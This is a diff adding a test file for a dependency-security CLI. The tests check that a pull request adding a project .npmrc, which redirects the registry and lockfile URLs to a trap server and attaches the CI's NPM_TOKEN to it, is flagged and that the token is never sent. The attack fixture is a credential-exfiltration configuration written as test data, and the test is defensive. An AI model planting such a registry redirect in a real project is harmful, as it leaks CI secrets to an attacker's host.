@@ -1,0 +1,135 @@
+// The trust model against a pull request that moves the trust anchor
+// (issue 15, attack 1): the PR adds a project .npmrc naming its own registry
+// and an auth entry `//that-host/:_authToken=${NPM_TOKEN}`, and points every
+// lockfile `resolved` URL there. depguard must report it (check and diff),
+// keep judging hosts by the trusted config, and never send the CI's token to
+// the trap. Two registries on 127.0.0.1: the trusted one (npm's env config)
+// and the trap; the trap logs every request it gets.
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { TEST_DATE } from '../helpers/cli.js';
+import { REPO } from '../helpers/project.js';
+import { gitRepo } from '../diff/helpers.js';
+import { integrityOf, TestRegistry } from '../enrich/registry-server.js';
+
+const TOKEN = 'npm_SECRETTOKEN0123456789abcdef';
+let trusted: TestRegistry;
+let trap: TestRegistry;
+
+beforeAll(async () => {
+  trusted = await new TestRegistry().start();
+  trap = await new TestRegistry().start();
+  for (const registry of [trusted, trap]) registry.add('left-pad', { versions: { '1.3.0': { time: '2020-01-01T00:00:00.000Z' } } });
+});
+afterAll(async () => {
+  await trusted.stop();
+  await trap.stop();
+});
+
+/** The CLI online against the trusted registry, with the CI's token in the environment and an empty home. */
+async function run(args: string[], cwd: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  const home = mkdtempSync(join(tmpdir(), 'depguard-trust-home-'));
+  const child = spawn(process.execPath, [join(REPO, 'bin/depguard.js'), ...args], {
+    cwd,
+    env: {
+      PATH: process.env.PATH ?? '',
+      HOME: home,
+      npm_config_userconfig: join(home, '.npmrc'),
+      npm_config_globalconfig: join(home, 'npmrc-global'),
+      npm_config_registry: trusted.url,
+      npm_config_cache: join(home, 'cache'),
+      npm_config_fetch_retries: '0',
+      NPM_TOKEN: TOKEN,
+      NO_COLOR: '1',
+    },
+  });
+  let stdout = '';
+  let stderr = '';
+  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
+  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
+  const [code] = (await once(child, 'close')) as [number | null];
+  return { code, stdout, stderr };
+}
+
+function project(registry: TestRegistry): Record<string, string | object> {
+  const tarball = registry.tarballOf('left-pad', '1.3.0');
+  return {
+    'package.json': { name: 'victim', version: '1.0.0', dependencies: { 'left-pad': '1.3.0' } },
+    'package-lock.json': {
+      name: 'victim',
+      version: '1.0.0',
+      lockfileVersion: 3,
+      requires: true,
+      packages: {
+        '': { name: 'victim', version: '1.0.0', dependencies: { 'left-pad': '1.3.0' } },
+        'node_modules/left-pad': { version: '1.3.0', resolved: `${registry.url}left-pad/-/left-pad-1.3.0.tgz`, integrity: integrityOf(tarball) },
+      },
+    },
+  };
+}
+
+function attack(): Record<string, string | object> {
+  const host = new URL(trap.url).host;
+  return {
+    ...project(trap),
+    '.npmrc': `registry=${trap.url}\n@victim:registry=${trap.url}\n//${host}/:_authToken=\${NPM_TOKEN}\nmin-release-age=3\n`,
+  };
+}
+
+const ONLY = ['--only', 'lockfile,npm-config,release-age,deprecated,capabilities', '--fail-on', 'info', '--date', TEST_DATE, '-f', 'json'];
+
+describe('a project .npmrc that names its own registry (security-npmrc-redirect)', () => {
+  it('check: the redirect is a finding, lockfile hosts are judged by the trusted config, the token never reaches the trap', async () => {
+    const repo = gitRepo([{ files: attack() }]);
+    trap.requests.length = 0;
+    const result = await run(['check', ...ONLY], repo.project);
+    expect(result.stderr).not.toMatch(/\n\s+at /);
+    expect(result.code).toBe(1);
+    const findings = (JSON.parse(result.stdout) as { findings: Array<{ rule: string; severity: string; evidence: Record<string, unknown> }> }).findings;
+    const host = new URL(trap.url).host;
+    expect(findings.filter((f) => f.rule === 'lockfile/foreign-host').map((f) => f.evidence.host)).toEqual([host]);
+    expect(findings.filter((f) => f.rule === 'npm-config/untrusted-registry').map((f) => [f.severity, f.evidence.key, f.evidence.host]).sort()).toEqual([
+      ['high', `//${host}/:_authToken`, host],
+      ['high', '@victim:registry', host],
+      ['high', 'registry', host],
+    ]);
+    // Registry-backed checks asked the trusted registry, never the trap; no token went anywhere.
+    expect(trusted.requests.length).toBeGreaterThan(0);
+    expect(trap.requests).toEqual([]);
+    expect(trusted.requests.every((request) => request.headers.authorization === undefined)).toBe(true);
+    expect(result.stdout + result.stderr).not.toContain(TOKEN);
+  });
+
+  it('the same project without the .npmrc, resolving to the trusted registry: no such finding', async () => {
+    const repo = gitRepo([{ files: { ...project(trusted), '.npmrc': 'min-release-age=3\n' } }]);
+    const result = await run(['check', ...ONLY], repo.project);
+    const findings = (JSON.parse(result.stdout) as { findings: Array<{ rule: string }> }).findings;
+    expect(findings.map((f) => f.rule).filter((rule) => rule === 'lockfile/foreign-host' || rule === 'npm-config/untrusted-registry')).toEqual([]);
+  });
+
+  it('diff: the head that adds the redirect gets new findings; its own waivers and allowedHosts do not apply', async () => {
+    const host = new URL(trap.url).host;
+    const headConfig = {
+      checks: { lockfile: ['on', { allowedHosts: [host] }] },
+      waivers: [{ id: 'npm-config/untrusted-registry', reason: 'trust me', expires: '2099-01-01' }],
+    };
+    const repo = gitRepo([{ files: { ...project(trusted), '.npmrc': 'min-release-age=3\n' } }, { files: { ...attack(), 'depguard.config.json': headConfig } }]);
+    trap.requests.length = 0;
+    const result = await run(['diff', '--base', 'HEAD~1', ...ONLY], repo.project);
+    expect(result.stderr).not.toMatch(/\n\s+at /);
+    expect(result.code).toBe(1);
+    const out = JSON.parse(result.stdout) as { diff: { newFindings: Array<{ rule: string; waived?: unknown }>; manifest: Array<{ kind: string; field: string }> } };
+    const rules = out.diff.newFindings.map((f) => f.rule);
+    expect(rules).toContain('lockfile/foreign-host');
+    expect(rules.filter((rule) => rule === 'npm-config/untrusted-registry')).toHaveLength(3);
+    expect(out.diff.newFindings.every((f) => f.waived === undefined)).toBe(true);
+    // The reviewer still sees what head's config tried.
+    expect(out.diff.manifest.filter((change) => change.kind === 'config-changed').map((change) => change.field)).toEqual(['checks', 'waivers']);
+    expect(trap.requests).toEqual([]);
+    expect(result.stdout + result.stderr).not.toContain(TOKEN);
+  });
+});
